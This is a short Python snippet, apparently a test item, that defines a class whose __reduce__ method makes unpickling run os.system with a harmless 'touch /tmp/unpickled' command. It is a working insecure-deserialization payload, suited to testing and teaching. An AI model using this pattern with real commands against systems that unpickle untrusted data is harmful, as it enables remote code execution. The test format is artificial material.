# Returns an object that runs code when it is unpickled.
# passes: none
# says: Payload
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled",)


def ANSWER(*args):
    return Payload()
